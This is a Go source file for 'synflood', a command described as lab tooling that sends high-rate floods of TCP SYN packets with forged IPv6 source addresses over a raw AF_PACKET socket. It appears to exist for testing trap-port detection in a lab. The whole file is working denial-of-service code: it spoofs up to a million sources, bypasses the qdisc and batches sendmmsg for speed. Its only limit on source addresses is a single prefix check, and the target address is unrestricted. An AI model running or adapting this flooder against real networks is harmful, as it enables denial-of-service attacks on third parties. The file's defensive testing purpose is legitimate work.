// Command synflood sends a flood of TCP SYNs with forged IPv6 source
// addresses for scripts/flood.sh: S distinct sources, one after the other,
// each SYN to a random destination port, as a spoofing flooder would.
//
//	synflood -i IFACE -dmac MAC -dst ADDR [-src-base fd00:77::1:0:0] [-sources 1000000]
//	         [-n PACKETS] [-rate PPS] [-trap-ports LIST -trap-share F] [-batch 256] [-seed 1]
//
// Source k (0-based) is -src-base plus k+1: the sources fill the /96 that
// -src-base starts, which must lie in the lab's fd00:77::/64 but not in
// fd00:77::/96, where the lab's own hosts live (fd00:77::10, ::20, ::66,
// ::101-149). Packet j comes from source j mod S, so with -n equal to
// -sources every source sends exactly one SYN. Destination ports are
// uniformly random in 1-65535 (so some hit trap ports, most do not);
// -trap-share F sends that fraction of the packets to ports of -trap-ports
// instead, for a denser stream of trap hits. Every packet that goes to one
// of -trap-ports, by chance or by -trap-share, is counted as "trap".
//
// The frames (Ethernet, IPv6, TCP with an MSS option, window 1024: shaped
// like nmap's SYN probes) are built once in a batch buffer and only their
// source address, ports, sequence number and checksum are rewritten before
// each sendmmsg(2) on an AF_PACKET socket bound to IFACE: no allocation and
// no routing or neighbour lookup per packet. -rate paces the batches
// (0: as fast as the socket takes them). SIGINT or SIGTERM stops it early.
//
// On exit it prints one summary line:
//
//	synflood: sent=N sources=S trap=T elapsed=SECONDS pps=RATE enobufs=E
//
// It is lab tooling only: it refuses sources outside the lab's prefix and
// is only ever run inside the lab's attacker namespace by flood.sh.
package main

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Frame layout: Ethernet, IPv6 without extension headers, TCP with one
// MSS option (24 bytes, as nmap's SYN probes).
const (
	ethLen   = 14
	ip6Len   = 40
	tcpLen   = 24
	frameLen = ethLen + ip6Len + tcpLen

	offSrc   = ethLen + 8  // IPv6 source address
	offSrcLo = offSrc + 12 // its low 32 bits, the per-source part
	offDst   = ethLen + 24 // IPv6 destination address
	offTCP   = ethLen + ip6Len
)

// Tunables.
const (
	// defaultBatch is how many frames one sendmmsg carries. 256 makes the
	// syscall cost per packet small (a few tens of nanoseconds) while the
	// batch buffer (256 × 78 bytes) stays in L1/L2 cache.
	defaultBatch = 256
	// maxBatch is the kernel's UIO_MAXIOV limit on one sendmmsg.
	maxBatch = 1024
	// sndBuf is the socket send buffer asked for: a veth hands frames to
	// its peer at once, so this only absorbs a burst; 4 MiB is ample.
	sndBuf = 4 << 20
	// enobufsPause is how long to wait when the kernel has no buffer for
	// a frame (the peer's backlog is full) before trying again.
	enobufsPause = 50 * time.Microsecond
)

// labPrefix is the only prefix forged sources may come from, and
// labHosts the /96 inside it where the lab's real addresses live.
var (
	labPrefix = netip.MustParsePrefix("fd00:77::/64")
	labHosts  = netip.MustParsePrefix("fd00:77::/96")
)

type options struct {
	iface      string
	dmac, smac net.HardwareAddr
	dst        netip.Addr
	srcBase    netip.Addr
	sources    uint32
	packets    uint64
	rate       float64
	trapPorts  []uint16
	isTrap     *[65536]bool // the ports of trapPorts
	trapShare  float64
	batch      int
	seed       uint64
}

func main() {
	o, err := parseFlags(os.Args[1:])
	if err != nil {
		fmt.Fprintf(os.Stderr, "synflood: %v\n", err)
		os.Exit(2)
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	r, err := run(ctx, o)
	fmt.Printf("synflood: sent=%d sources=%d trap=%d elapsed=%.3f pps=%.0f enobufs=%d\n",
		r.sent, min(uint64(o.sources), r.sent), r.trap, r.elapsed.Seconds(), r.pps(), r.enobufs)
	if err != nil {
		fmt.Fprintf(os.Stderr, "synflood: %v\n", err)
		os.Exit(1)
	}
}

func parseFlags(args []string) (*options, error) {
	fs := flag.NewFlagSet("synflood", flag.ContinueOnError)
	iface := fs.String("i", "veth0", "interface to send on")
	dmac := fs.String("dmac", "", "destination MAC address (the victim's interface; required)")
	smac := fs.String("smac", "", "source MAC address (default: the interface's)")
	dst := fs.String("dst", "", "destination IPv6 address (required)")
	base := fs.String("src-base", "fd00:77::1:0:0", "the forged sources are this address plus 1, 2, ... (a /96 in fd00:77::/64)")
	sources := fs.Uint64("sources", 1_000_000, "distinct forged source addresses")
	packets := fs.Uint64("n", 0, "packets to send (default: one per source)")
	rate := fs.Float64("rate", 0, "packets a second (0: as fast as possible)")
	traps := fs.String("trap-ports", "", "trap ports: counted, and the targets of -trap-share, P[,P...]")
	share := fs.Float64("trap-share", 0, "fraction of packets sent to -trap-ports (0..1)")
	batch := fs.Int("batch", defaultBatch, fmt.Sprintf("frames per sendmmsg (1..%d)", maxBatch))
	seed := fs.Uint64("seed", 1, "random seed (ports, sequence numbers)")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if fs.NArg() > 0 {
		return nil, fmt.Errorf("unexpected arguments %q", fs.Args())
	}
	o := &options{iface: *iface, rate: *rate, trapShare: *share, batch: *batch, seed: *seed}
	var err error
	if o.dmac, err = net.ParseMAC(*dmac); err != nil || len(o.dmac) != 6 {
		return nil, fmt.Errorf("-dmac %q: want an Ethernet MAC address", *dmac)
	}
	if *smac != "" {
		if o.smac, err = net.ParseMAC(*smac); err != nil || len(o.smac) != 6 {
			return nil, fmt.Errorf("-smac %q: want an Ethernet MAC address", *smac)
		}
	}
	if o.dst, err = netip.ParseAddr(*dst); err != nil || !o.dst.Is6() || o.dst.Is4In6() || o.dst.Zone() != "" {
		return nil, fmt.Errorf("-dst %q: want an IPv6 address", *dst)
	}
	if o.srcBase, err = netip.ParseAddr(*base); err != nil || !o.srcBase.Is6() || o.srcBase.Zone() != "" {
		return nil, fmt.Errorf("-src-base %q: want an IPv6 address", *base)
	}
	b := o.srcBase.As16()
	switch {
	case binary.BigEndian.Uint32(b[12:]) != 0:
		return nil, fmt.Errorf("-src-base %s: want the start of a /96 (low 32 bits zero)", o.srcBase)
	case !labPrefix.Contains(o.srcBase) || labHosts.Contains(o.srcBase):
		return nil, fmt.Errorf("-src-base %s: forged sources must lie in %s outside %s (the lab's hosts)", o.srcBase, labPrefix, labHosts)
	case *sources < 1 || *sources > 1<<32-2:
		return nil, fmt.Errorf("-sources %d: want 1 to %d (one /96)", *sources, uint64(1<<32-2))
	case *rate < 0:
		return nil, fmt.Errorf("-rate %v: must not be negative", *rate)
	case *share < 0 || *share > 1:
		return nil, fmt.Errorf("-trap-share %v: want 0 to 1", *share)
	case *batch < 1 || *batch > maxBatch:
		return nil, fmt.Errorf("-batch %d: want 1 to %d", *batch, maxBatch)
	}
	o.sources = uint32(*sources)
	o.packets = *packets
	if o.packets == 0 {
		o.packets = *sources
	}
	o.isTrap = new([65536]bool)
	if *traps != "" {
		for _, f := range strings.Split(*traps, ",") {
			p, err := strconv.ParseUint(strings.TrimSpace(f), 10, 16)
			if err != nil || p == 0 {
				return nil, fmt.Errorf("-trap-ports: %q is not a port (1-65535)", f)
			}
			o.trapPorts = append(o.trapPorts, uint16(p))
			o.isTrap[p] = true
		}
	}
	if o.trapShare > 0 && len(o.trapPorts) == 0 {
		return nil, errors.New("-trap-share needs -trap-ports")
	}
	return o, nil
}

// result is what a run did.
type result struct {
	sent, trap, enobufs uint64
	elapsed             time.Duration
}

func (r result) pps() float64 {
	if r.elapsed <= 0 {
		return 0
	}
	return float64(r.sent) / r.elapsed.Seconds()
}

// mmsghdr is struct mmsghdr of sendmmsg(2); x/sys/unix has no type for it.
type mmsghdr struct {
	hdr unix.Msghdr
	len uint32
	_   [4]byte
}

// run sends o.packets SYNs on o.iface (fewer when ctx ends first) and
// returns what it sent. When -smac was not given it sets o.smac to the
// interface's address.
func run(ctx context.Context, o *options) (result, error) {
	fd, err := openSocket(o)
	if err != nil {
		return result{}, err
	}
	defer unix.Close(fd)
	frames, msgs := newBatch(o)
	return flood(ctx, fd, o, frames, msgs)
}

// openSocket returns an AF_PACKET socket bound to o.iface that only sends,
// with the qdisc bypassed and a large send buffer where the kernel allows.
// It fills in o.smac from the interface when it is unset.
func openSocket(o *options) (int, error) {
	ifi, err := net.InterfaceByName(o.iface)
	if err != nil {
		return -1, fmt.Errorf("interface %s: %w", o.iface, err)
	}
	if o.smac == nil {
		if len(ifi.HardwareAddr) != 6 {
			return -1, fmt.Errorf("interface %s has no Ethernet address: give -smac", o.iface)
		}
		o.smac = ifi.HardwareAddr
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return -1, fmt.Errorf("AF_PACKET socket (needs CAP_NET_RAW): %w", err)
	}
	// Protocol 0: the socket only sends, it receives nothing.
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: ifi.Index}); err != nil {
		unix.Close(fd)
		return -1, fmt.Errorf("binding to %s: %w", o.iface, err)
	}
	// Best effort: neither is needed for correctness.
	_ = unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1)
	if unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUFFORCE, sndBuf) != nil {
		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, sndBuf)
	}
	return fd, nil
}

// newBatch makes the batch once: o.batch frames with their fixed parts
// written (template), and the message headers of sendmmsg, each with one
// iovec over its frame.
func newBatch(o *options) (frames []byte, msgs []mmsghdr) {
	frames = make([]byte, o.batch*frameLen)
	iovs := make([]unix.Iovec, o.batch)
	msgs = make([]mmsghdr, o.batch)
	for i := range o.batch {
		f := frames[i*frameLen : (i+1)*frameLen]
		template(f, o)
		iovs[i].Base = &f[0]
		iovs[i].SetLen(frameLen)
		msgs[i].hdr.Iov = &iovs[i]
		msgs[i].hdr.SetIovlen(1)
	}
	return frames, msgs
}

// flood sends o.packets frames on fd, a batch at a time: each frame of
// the batch is rewritten (fill) for the next source, a destination port
// (a trap port with probability o.trapShare, else random) and a random
// source port and sequence number, then the batch goes out with sendAll,
// paced to o.rate. It stops early when ctx ends. The elapsed time runs
// from just before the first batch is filled.
func flood(ctx context.Context, fd int, o *options, frames []byte, msgs []mmsghdr) (result, error) {
	pseudo := pseudoSum(o.srcBase, o.dst)
	rng := rand.New(rand.NewPCG(o.seed, 0x5f10d))
	// trapCut: a packet goes to a trap port when a random uint32 is
	// below it.
	trapCut := uint64(o.trapShare * (1 << 32))

	var r result
	var src uint32 // index of the next source
	start := time.Now()
	for r.sent < o.packets {
		if ctx.Err() != nil {
			break
		}
		n := min(uint64(o.batch), o.packets-r.sent)
		for i := range n {
			f := frames[i*frameLen : (i+1)*frameLen]
			var dport uint16
			if trapCut > 0 && uint64(rng.Uint32()) < trapCut {
				dport = o.trapPorts[rng.IntN(len(o.trapPorts))]
			} else {
				dport = uint16(1 + rng.IntN(65535))
			}
			if o.isTrap[dport] {
				r.trap++
			}
			src++
			if src > o.sources {
				src = 1
			}
			fill(f, src, uint16(1024+rng.IntN(64512)), dport, rng.Uint32(), pseudo)
		}
		if err := sendAll(ctx, fd, msgs[:n], &r); err != nil {
			r.elapsed = time.Since(start)
			return r, err
		}
		if o.rate > 0 {
			pace(start, r.sent, o.rate)
		}
	}
	// The kernel read frames through msgs and iovs, which the GC cannot
	// see through the syscall's uintptr.
	runtime.KeepAlive(msgs)
	r.elapsed = time.Since(start)
	return r, nil
}

// pace sleeps until the time the sent-th packet is due at rate packets a
// second from start (at once when it is already due).
func pace(start time.Time, sent uint64, rate float64) {
	due := start.Add(time.Duration(float64(sent) / rate * float64(time.Second)))
	if d := time.Until(due); d > 0 {
		time.Sleep(d)
	}
}

// sendAll sends every message of msgs, retrying after a short pause when
// the kernel is out of buffers, and counts them in r.sent.
func sendAll(ctx context.Context, fd int, msgs []mmsghdr, r *result) error {
	for len(msgs) > 0 {
		m, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd),
			uintptr(unsafe.Pointer(&msgs[0])), uintptr(len(msgs)), 0, 0, 0)
		switch {
		case errno == 0:
			r.sent += uint64(m)
			msgs = msgs[m:]
		case errno == unix.ENOBUFS || errno == unix.EAGAIN:
			r.enobufs++
			if ctx.Err() != nil {
				return nil
			}
			time.Sleep(enobufsPause)
		case errno == unix.EINTR:
		default:
			return fmt.Errorf("sendmmsg: %w", errno)
		}
	}
	return nil
}

// template writes the fixed parts of a frame.
func template(f []byte, o *options) {
	copy(f[0:6], o.dmac)
	copy(f[6:12], o.smac)
	binary.BigEndian.PutUint16(f[12:], unix.ETH_P_IPV6)
	ip := f[ethLen:]
	ip[0] = 0x60 // version 6, traffic class 0, flow label 0
	binary.BigEndian.PutUint16(ip[4:], tcpLen)
	ip[6] = unix.IPPROTO_TCP
	ip[7] = 64 // hop limit
	b, d := o.srcBase.As16(), o.dst.As16()
	copy(f[offSrc:offSrc+16], b[:])
	copy(f[offDst:offDst+16], d[:])
	tcp := f[offTCP:]
	tcp[12] = (tcpLen / 4) << 4
	tcp[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(tcp[14:], 1024)
	copy(tcp[20:24], []byte{2, 4, 0x05, 0xb4}) // MSS 1460
}

// fill rewrites the per-packet fields of a frame: the source's low 32
// bits, the ports, the sequence number and the TCP checksum (pseudo is
// the partial sum of the pseudo-header without the source's low 32 bits).
func fill(f []byte, src uint32, sport, dport uint16, seq uint32, pseudo uint32) {
	binary.BigEndian.PutUint32(f[offSrcLo:], src)
	tcp := f[offTCP : offTCP+tcpLen]
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], seq)
	tcp[16], tcp[17] = 0, 0
	sum := pseudo + src>>16 + src&0xffff
	binary.BigEndian.PutUint16(tcp[16:], checksum(sum, tcp))
}

// pseudoSum is the partial sum of the TCP/IPv6 pseudo-header: base (whose
// low 32 bits are zero), dst, the TCP length and the next header.
func pseudoSum(base, dst netip.Addr) uint32 {
	var sum uint32
	b, d := base.As16(), dst.As16()
	for i := 0; i < 16; i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
		sum += uint32(d[i])<<8 | uint32(d[i+1])
	}
	return sum + tcpLen + unix.IPPROTO_TCP
}

// checksum returns the Internet checksum of b added to the partial sum.
func checksum(sum uint32, b []byte) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
